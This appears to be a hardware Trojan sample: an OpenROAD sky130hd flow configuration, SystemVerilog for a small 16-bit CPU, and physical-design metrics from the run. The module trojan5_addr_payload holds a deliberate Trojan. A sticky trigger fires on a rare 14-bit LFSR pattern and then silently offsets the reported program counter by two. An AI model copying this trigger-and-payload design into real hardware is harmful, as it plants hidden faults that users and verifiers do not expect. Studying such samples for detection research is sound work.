File: config.mk
export PLATFORM = sky130hd
export DESIGN_NAME = trojan5_cpu0_host
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/hw/cpu0_pkg.sv /design/src/hw/cpu0_lfsr.sv /design/src/hw/cpu0_regfile.sv /design/src/hw/cpu0_exec_fsm.sv /design/src/hw/trojan5_addr_payload.sv /design/src/hw/trojan5_cpu0_host.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export CAP_MARGIN = 0
export CORE_ASPECT_RATIO = 2
export CORE_UTILIZATION = 45
export DETAILED_ROUTE_END_ITERATION = 12
export DONT_BUFFER_PORTS = 1
export GPL_TIMING_DRIVEN = 0
export PLACE_DENSITY_LB_ADDON = 0.1
export SETUP_SLACK_MARGIN = 0.1
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
File: constraint.sdc
create_clock -name clk -period 3.9 [get_ports clk]
set_input_delay 0.39 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.39 -clock clk [all_outputs]
set_load 0.005 [all_outputs]
File: src/hw/cpu0_pkg.sv
// CPU vector typedefs, opcode and state enums, register file request structs, decoded instruction
package cpu0_pkg;

    // Widths that carry a meaning
    typedef logic [15:0] word_t;      // Register value
    typedef logic [12:0] pc_t;        // Program address
    typedef logic [2:0]  reg_idx_t;   // Register number
    typedef logic [15:0] instr_t;     // Raw instruction
    typedef logic [31:0] lfsr_t;      // LFSR state
    typedef logic [13:0] prog_dat_t;  // LFSR slice seen by the Trojan

    // Opcodes in bits 15..12, anything not listed executes as NOP
    typedef enum logic [3:0] {
        OP_NOP  = 4'h0,
        OP_ADD  = 4'h1,
        OP_SUB  = 4'h2,
        OP_LOAD = 4'h3,
        OP_JUMP = 4'h4,
        OP_HALT = 4'hF
    } opcode_e;

    typedef enum logic {
        ST_RUN     = 1'b0,
        ST_HALTED  = 1'b1   // Left only through reset
    } exec_state_e;

    // Register file write request
    typedef struct packed {
        logic     wr_en;
        reg_idx_t wr_idx;
        word_t    wr_data;
    } rf_wr_t;

    // Register file read addresses
    typedef struct packed {
        reg_idx_t rs_a;
        reg_idx_t rs_b;
    } rf_rd_req_t;

    // Fields pulled out of one instruction
    typedef struct packed {
        opcode_e  opcode;
        reg_idx_t rd;       // Destination
        reg_idx_t rs_a;     // First source
        reg_idx_t rs_b;     // Second source
        word_t    imm;      // Zero-extended immediate
        pc_t      target;   // Jump target
    } dec_instr_t;

endpackage

File: src/hw/cpu0_lfsr.sv
// 32-bit Fibonacci LFSR stepping once per instruction strobe
module cpu0_lfsr #(
    parameter cpu0_pkg::lfsr_t LFSR_INIT = 32'hABCD1000
) (
    input  logic            clk,
    input  logic            pon_rst_n_i,
    input  logic            step_i,
    output cpu0_pkg::lfsr_t state_o
);
    import cpu0_pkg::*;

    lfsr_t state_q;
    logic  feedback;

    // Taps 31, 21, 1, 0
    assign feedback = state_q[31] ^ state_q[21] ^ state_q[1] ^ state_q[0];

    always_ff @(posedge clk or negedge pon_rst_n_i) begin
        if (!pon_rst_n_i) begin
            state_q <= LFSR_INIT;
        end else if (step_i) begin
            state_q <= {state_q[30:0], feedback};  // Shift left, new bit at 0
        end
    end

    assign state_o = state_q;

    // An all-zero state would freeze the sequence for good
    a_no_lockup : assert property (
        @(posedge clk) disable iff (!pon_rst_n_i)
        state_q != '0
    ) else $error("LFSR reached the all-zero state");

endmodule

File: src/hw/cpu0_regfile.sv
// Eight-entry register file, two combinational reads, one write, registered observation port
module cpu0_regfile #(
    parameter cpu0_pkg::reg_idx_t OUT_REG = 3'd0
) (
    input  logic                 clk,
    input  logic                 pon_rst_n_i,
    input  cpu0_pkg::rf_rd_req_t rd_req_i,
    output cpu0_pkg::word_t      rd_a_o,
    output cpu0_pkg::word_t      rd_b_o,
    input  cpu0_pkg::rf_wr_t     wr_i,
    output cpu0_pkg::word_t      reg_data_o
);
    import cpu0_pkg::*;

    localparam int NUM_REGS = 1 << $bits(reg_idx_t);

    word_t regs_q [NUM_REGS];
    word_t obs_q;

    // Architectural state, cleared on reset
    always_ff @(posedge clk or negedge pon_rst_n_i) begin
        if (!pon_rst_n_i) begin
            for (int i = 0; i < NUM_REGS; i++) begin
                regs_q[i] <= '0;
            end
        end else if (wr_i.wr_en) begin
            regs_q[wr_i.wr_idx] <= wr_i.wr_data;
        end
    end

    // Operand reads
    assign rd_a_o = regs_q[rd_req_i.rs_a];
    assign rd_b_o = regs_q[rd_req_i.rs_b];

    // Observation register, one cycle behind the write
    always_ff @(posedge clk or negedge pon_rst_n_i) begin
        if (!pon_rst_n_i) begin
            obs_q <= '0;
        end else begin
            obs_q <= regs_q[OUT_REG];
        end
    end

    assign reg_data_o = obs_q;

endmodule

File: src/hw/cpu0_exec_fsm.sv
// Instruction decoder, program counter and run/halt state machine
module cpu0_exec_fsm (
    input  logic                 clk,
    input  logic                 pon_rst_n_i,
    input  cpu0_pkg::instr_t     instr_i,
    input  logic                 instr_valid_i,
    output cpu0_pkg::rf_rd_req_t rd_req_o,
    input  cpu0_pkg::word_t      rd_a_i,
    input  cpu0_pkg::word_t      rd_b_i,
    output cpu0_pkg::rf_wr_t     wr_o,
    output cpu0_pkg::pc_t        pc_o,
    output logic                 halt_o
);
    import cpu0_pkg::*;

    exec_state_e state_q;
    exec_state_e state_d;
    pc_t         pc_q;
    pc_t         pc_d;
    pc_t         pc_inc;
    dec_instr_t  dec;
    logic        accept;

    // Field extraction
    always_comb begin
        dec.opcode = opcode_e'(instr_i[15:12]);
        dec.rd     = instr_i[11:9];
        dec.rs_a   = instr_i[8:6];
        dec.rs_b   = instr_i[5:3];
        dec.imm    = {8'h00, instr_i[7:0]};
        dec.target = instr_i[12:0];
    end

    assign accept = instr_valid_i && (state_q == ST_RUN);
    assign pc_inc = pc_q + pc_t'(1);  // Wraps at 13 bits

    assign rd_req_o.rs_a = dec.rs_a;
    assign rd_req_o.rs_b = dec.rs_b;

    // Execute
    always_comb begin
        state_d        = state_q;
        pc_d           = pc_q;
        wr_o.wr_en     = 1'b0;
        wr_o.wr_idx    = dec.rd;
        wr_o.wr_data   = '0;

        if (accept) begin
            case (dec.opcode)
                OP_ADD: begin
                    wr_o.wr_en   = 1'b1;
                    wr_o.wr_data = rd_a_i + rd_b_i;
                    pc_d         = pc_inc;
                end
                OP_SUB: begin
                    wr_o.wr_en   = 1'b1;
                    wr_o.wr_data = rd_a_i - rd_b_i;
                    pc_d         = pc_inc;
                end
                OP_LOAD: begin
                    wr_o.wr_en   = 1'b1;
                    wr_o.wr_data = dec.imm;
                    pc_d         = pc_inc;
                end
                OP_JUMP: begin
                    pc_d = dec.target;
                end
                OP_HALT: begin
                    state_d = ST_HALTED;  // PC holds
                end
                default: begin
                    pc_d = pc_inc;  // NOP and undefined codes
                end
            endcase
        end
    end

    always_ff @(posedge clk or negedge pon_rst_n_i) begin
        if (!pon_rst_n_i) begin
            state_q <= ST_RUN;
            pc_q    <= '0;
        end else begin
            state_q <= state_d;
            pc_q    <= pc_d;
        end
    end

    assign pc_o   = pc_q;
    assign halt_o = (state_q == ST_HALTED);

    // No register write may leave the core once it has stopped
    a_no_write_halted : assert property (
        @(posedge clk) disable iff (!pon_rst_n_i)
        (state_q == ST_HALTED) |-> !wr_o.wr_en
    ) else $error("Register write issued while halted");

    // Program counter frozen for the rest of the halt
    a_pc_frozen_halted : assert property (
        @(posedge clk) disable iff (!pon_rst_n_i)
        (state_q == ST_HALTED) |=> $stable(pc_q)
    ) else $error("PC moved while halted");

endmodule

File: src/hw/trojan5_addr_payload.sv
// Sticky trigger latch and address-offset payload with registered address output
module trojan5_addr_payload #(
    parameter cpu0_pkg::prog_dat_t TRIGGER_PATTERN = 14'h3A5C,
    parameter cpu0_pkg::pc_t       PAYLOAD_OFFSET  = 13'd2
) (
    input  logic                clk,
    input  logic                pon_rst_n_i,
    input  cpu0_pkg::prog_dat_t prog_dat_i,
    input  cpu0_pkg::pc_t       pc_reg_i,
    output cpu0_pkg::pc_t       prog_adr_o
);
    import cpu0_pkg::*;

    logic trig_q;
    pc_t  adr_d;
    pc_t  adr_q;

    // Arms on a pattern match, only reset disarms
    always_ff @(posedge clk or negedge pon_rst_n_i) begin
        if (!pon_rst_n_i) begin
            trig_q <= 1'b0;
        end else if (prog_dat_i == TRIGGER_PATTERN) begin
            trig_q <= 1'b1;
        end
    end

    // Shifted address once armed, 13-bit wrap
    assign adr_d = trig_q ? pc_reg_i + PAYLOAD_OFFSET : pc_reg_i;

    always_ff @(posedge clk or negedge pon_rst_n_i) begin
        if (!pon_rst_n_i) begin
            adr_q <= '0;
        end else begin
            adr_q <= adr_d;
        end
    end

    assign prog_adr_o = adr_q;

    a_trigger_sticky : assert property (
        @(posedge clk) disable iff (!pon_rst_n_i)
        trig_q |=> trig_q
    ) else $error("Trigger cleared without reset");

endmodule

File: src/hw/trojan5_cpu0_host.sv
// CPU host top level with LFSR, register file, execution FSM and address payload
module trojan5_cpu0_host #(
    parameter cpu0_pkg::lfsr_t     LFSR_INIT       = 32'hABCD1000,
    parameter cpu0_pkg::reg_idx_t  OUT_REG         = 3'd0,
    parameter cpu0_pkg::prog_dat_t TRIGGER_PATTERN = 14'h3A5C,
    parameter cpu0_pkg::pc_t       PAYLOAD_OFFSET  = 13'd2
) (
    input  logic               clk,
    input  logic               pon_rst_n_i,
    input  cpu0_pkg::instr_t   instr_i,
    input  logic               instr_valid_i,
    output cpu0_pkg::pc_t      pc_o,
    output cpu0_pkg::word_t    reg_data_o,
    output logic               cpu_halt_o
);
    import cpu0_pkg::*;

    lfsr_t      lfsr_state;
    prog_dat_t  prog_dat;      // Low LFSR bits for the trigger compare
    rf_rd_req_t rd_req;
    word_t      rd_a;
    word_t      rd_b;
    rf_wr_t     rf_wr;
    pc_t        pc_reg;        // Unshifted program counter

    assign prog_dat = lfsr_state[$bits(prog_dat_t)-1:0];

    // Steps on every strobe, halted or not
    cpu0_lfsr #(
        .LFSR_INIT (LFSR_INIT)
    ) u_cpu0_lfsr (
        .clk         (clk),
        .pon_rst_n_i (pon_rst_n_i),
        .step_i      (instr_valid_i),
        .state_o     (lfsr_state)
    );

    cpu0_regfile #(
        .OUT_REG (OUT_REG)
    ) u_cpu0_regfile (
        .clk         (clk),
        .pon_rst_n_i (pon_rst_n_i),
        .rd_req_i    (rd_req),
        .rd_a_o      (rd_a),
        .rd_b_o      (rd_b),
        .wr_i        (rf_wr),
        .reg_data_o  (reg_data_o)
    );

    cpu0_exec_fsm u_cpu0_exec_fsm (
        .clk           (clk),
        .pon_rst_n_i   (pon_rst_n_i),
        .instr_i       (instr_i),
        .instr_valid_i (instr_valid_i),
        .rd_req_o      (rd_req),
        .rd_a_i        (rd_a),
        .rd_b_i        (rd_b),
        .wr_o          (rf_wr),
        .pc_o          (pc_reg),
        .halt_o        (cpu_halt_o)
    );

    // Reported address passes through the payload
    trojan5_addr_payload #(
        .TRIGGER_PATTERN (TRIGGER_PATTERN),
        .PAYLOAD_OFFSET  (PAYLOAD_OFFSET)
    ) u_trojan5_addr_payload (
        .clk         (clk),
        .pon_rst_n_i (pon_rst_n_i),
        .prog_dat_i  (prog_dat),
        .pc_reg_i    (pc_reg),
        .prog_adr_o  (pc_o)
    );

endmodule

==> summary.md <==
| Metric | Value |
|---|---|
| Status | `finished, violations left` |
| Failing checks | `negative hold slack, negative setup slack` |
| Die X | `approximately 110 um` |
| Routed Antenna Nets | `0` |
| Final instance area | `between 10,000 and 15,000 um2` |
| Area of the die | `between 20,000 and 30,000 um2` |
| CTS HTree Levels | `1` |
| Final hold viol count | `204` |
| Vias in the first global route | `roughly 8,500` |
| Data arrival, critical path | `around 4400 ps` |
| Buf/Inv on CP | `2` |
| Antenna violations before repair | `0` |
| Synthesized net count | `975` |
| Net Sw Frac | `between 20% and 30%` |
| RSZ-0062 raised after global routing | `yes` |
| EDFF count, synth | `0` |
| GRT Util Overall | `28.1%` |
| Initial Util | `a little under half` |
| Syn_area_per_cell | `between 10 and 15 um2` |
| R2R Setup Slk | `-110 ps` |
| Worst path slowest cell | `mux4_2` |
| Setup ws final | `-111 ps` |
| Routed len/inst | `between 20 and 30 um` |
| Worst slew margin | `26.4%` |
| Area of placed instances | `around 12,000 um2` |
| CP startpoint kind | `flip-flop` |
| Leak | `between 5 and 6 nW` |
| Clock Power Share | `~40%` |
| Clock Path Buffers | `3` |
| Non-Filler Instances | `approximately 1,300` |
| Required time worst endpoint | `4270 ps` |
| Grt ovf | `0` |
| Post-synth top area cell | `dfrtp_1` |
| Num CTS Buffers | `21` |
| Library cells used by synthesis | `66` |
| Min Tclk post-route | `4010 ps` |
| Row count | `between 80 and 90` |
| Routed vias/inst | `~6.3` |
| First-pass GRT wire length | `~52,000 um` |
| Clock Latency Late Sink | `about 530 ps` |
| Combinational share of power | `about 16%` |
| Family with the most delay on the worst path | `compound AO/OA/AOI/OAI gates` |
| Min-delay worst type | `in2async` |
| Largest net degree at the start of global routing | `about 200` |
| Die H | `roughly 220 um` |
| CP Class | `reg2reg` |
| Root buffer cell | `clkbuf_16` |
| Cell Area, Synth | `roughly 11,000 um2` |
| Final worst-path cycle share | `103%` |
| Io pins | `49` |
| Area Growth Syn to Fin | `20.7%` |
| Setup violations, final | `32` |
| Sequential fraction of design power | `43.7%` |
| R2R Path Start | `u_cpu0_regfile.regs_q[69]$_DFFE_PN0P_` |
| Fin. max-slew vios | `0` |
| Post-Synthesis Cells | `about 940` |
| Predominant post-synthesis flop cell | `dfrtp_1` |
| Port buffer count | `0` |
| Pwr Density | `between 400 and 500 nW/um2` |
| Vias | `just over 8,000` |
| Dpl cells | `around 1,200` |
| Top cell type's share of synthesized area | `43.4%` |
| Cell Chain, Critical Path | `mux4_2 > mux2i_2 > and4bb_1 > and3_4 > a31o_4 > xnor2_2 > ha_1 > nand2_4 > a211oi_4 > o41ai_4 > buf_6 > a21boi_4 > o21ai_2 > o21ai_2 > xnor2_4 > buf_12 > o31ai_2` |
| Core Region | `about 24,000 um2` |
| Top cells by area, synth | `dfrtp_1 43%, mux4_2 12%, mux2_2 7.8%` |
| DR pass1 iterations | `5` |
| Final #Nets | `roughly 1,000` |
| Cell mode on critical path | `o21ai_2` |
| Synth Warn # | `0` |
| End of the worst register-to-register path | `u_cpu0_regfile.regs_q[95]$_DFFE_PN0P_` |
| Hpwl dp | `about 24,000 um` |
| Asr flop ratio synth | `100%` |
| Sequential share of the synthesized area | `between 40 and 50%` |
| Max Cap Viol | `0` |
| Setup TNS | `-2330 ps` |
| Seq cells post-synth | `a little over 200` |
| Reg2reg path depth | `17` |
| Crit end category | `flip-flop` |
| Cts hold-fix bufs | `2` |
| Share of cells above drive strength 1 | `between 30% and 40%` |
| Number of diodes | `0` |
| Initial detailed-routing violation count | `414` |
| Switching pwr | `about 0.0015 W` |
| Int Power | `between 0.003 and 0.004 W` |
| Fmax | `between 200 and 250 MHz` |
| Crit Path Max Fanout | `8` |
| Finished Core Util | `between 50 and 60%` |
| Min Hold Slack | `-441 ps` |
| Worst Skew | `21.4 ps` |
| VDD IR max | `~0.00043 V` |
| Clock sink total | `roughly 200` |
| Routability Congestion | `around 0.90` |
| CP peak stage delay | `510 ps` |
| Routed WL | `~35,000 um` |
| CTS tree | `done` |
| Reg clk slew, reported paths | `60 ps` |
| Worst slew pin tran | `1090 ps` |
| Drt drc | `0` |
how the worst max path moves through the flow:
| stage | startpoint | depth (start not counted) | slack (ps) | to |
|---|---|---|---|---|
| detailed placement | instr_i[6] | 12 | -1990 | u_cpu0_regfile.regs_q[121]$_DFFE_PN0P_ |
| CTS | u_cpu0_regfile.regs_q[113]$_DFFE_PN0P_ | 15 | -170 | u_cpu0_regfile.regs_q[110]$_DFFE_PN0P_ |
| global route | u_cpu0_regfile.regs_q[101]$_DFFE_PN0P_ | 16 | -280 | u_cpu0_regfile.regs_q[111]$_DFFE_PN0P_ |
| global placement | instr_i[6] | 12 | -2000 | u_cpu0_regfile.regs_q[121]$_DFFE_PN0P_ |
| floorplan | instr_i[3] | 18 | -120 | u_cpu0_regfile.regs_q[111]$_DFFE_PN0P_ |
| finish | u_cpu0_regfile.regs_q[69]$_DFFE_PN0P_ | 17 | -110 | u_cpu0_regfile.regs_q[95]$_DFFE_PN0P_ |
final cells by class:
cell class / instances / area, um2
Inverter: 5 / 18.8
Fill cell: 2085 / 10900
Multi-Input combinational cell: 665 / 6320
Sequential cell: 204 / 5120
Timing Repair Buffer: 44 / 439
Clock buffer: 27 / 588
Buffer: 62 / 437
Clock inverter: 11 / 140
Tap cell: 290 / 363
through the flow:
| stage | total power, W | hold slack, ps | setup WS [ps] |
|---|---|---|---|
| CTS | 0.00531 | -461 | -172 |
| detailed placement | 0.00309 | 98.4 | -1990 |
| floorplan | 0.00289 | 94.4 | -118 |
| global route | 0.00558 | -463 | -281 |
| finish | 0.00538 | -441 | -111 |
| global placement | 0.00308 | 98.1 | -2000 |
worst reg2reg max path, cell delays in order (launching register included):
cell and delay [ps]:
dfrtp_1 400, mux4_2 510, mux2i_2 210, and4bb_1 300, and3_4 250, a31o_4 180, xnor2_2 60, ha_1 360
nand2_4 110, a211oi_4 270, o41ai_4 120, buf_6 160, a21boi_4 170, o21ai_2 110, o21ai_2 260, xnor2_4 160
buf_12 170, o31ai_2 70
layout by cell type, fill, tap and decap left out, types with 6 or more instances in the layout:
cell type	netlist	final
nand3_1	10	9
dfrtp_1	193	192
and3_1	8	8
nor3_1	14	13
o21ai_0	53	36
o21ai_1	0	8
a21oi_2	0	6
ha_1	18	14
buf_4	17	44
nor2b_1	8	8
nor2_1	55	48
nand2_1	118	115
dfstp_2	11	11
buf_12	0	9
o31ai_2	8	8
a22o_1	16	16
o31ai_4	0	15
clkbuf_1	25	21
a21oi_1	37	30
buf_6	3	13
clkbuf_16	0	21
xnor2_1	17	13
o21ai_2	0	9
mux2_2	77	73
xor2_1	20	16
o21a_1	7	7
mux2i_1	14	11
mux4_2	60	62
o31ai_1	40	25
cells by family after synthesis:
group           count (synthesis)  share of synthesized area, %
flops                         204                          46.0
fa+ha+maj                      19                          2.20
simple gates                  251                          10.3
compound gates                196                          11.8
mux                           160                          23.1
buf+inv                        68                          3.26
xor+xnor                       39                          3.31
sequential cells by signal, summed over array words and instances (netlist names):
name	flops
u_trojan5_addr_payload.prog_adr_o	13
u_cpu0_exec_fsm.pc_o	13
u_cpu0_regfile.regs_q	128
u_cpu0_lfsr.state_o	32
u_cpu0_regfile.reg_data_o	16
u_trojan5_addr_payload.trig_q	1
u_cpu0_exec_fsm.halt_o	1
cells in the mapped netlist (14+ instances only):
master	number
a21oi_1	37
a22o_1	16
buf_4	17
clkbuf_1	25
dfrtp_1	193
ha_1	18
mux2_2	77
mux2i_1	14
mux4_2	60
nand2_1	118
nor2_1	55
nor3_1	14
o21ai_0	53
o31ai_1	40
xnor2_1	17
xor2_1	20
metal layers:
layer | track usage [%] | part of all wire, % | vias up
li1 | - | - | 3624
met1 | 30.2 | 35 | 4210
met3 | 3.56 | 3.5 | 120
met5 | 0 | 0 | -
met2 | 50.4 | 52 | 225
met4 | 20.1 | 8.8 | 0
power by group through the flow:
stage,sequential (W),combinational [W],clock [W]
finish,0.00235,0.000877,0.00215
global route,0.00237,0.000946,0.00226
floorplan,0.00236,0.000525,0
CTS,0.00235,0.000764,0.00219
detailed placement,0.00239,0.000694,0
global placement,0.00239,0.000686,0
timing repair:
item	4_1_cts	5_1_grt
pin swaps	26	38
setup endpoints to repair	112	91
endpoints found under the hold margin	206	204
gates resized for setup	58	95
buffers inserted	20	22
No activity file was read; power rests on OpenSTA's default activity.
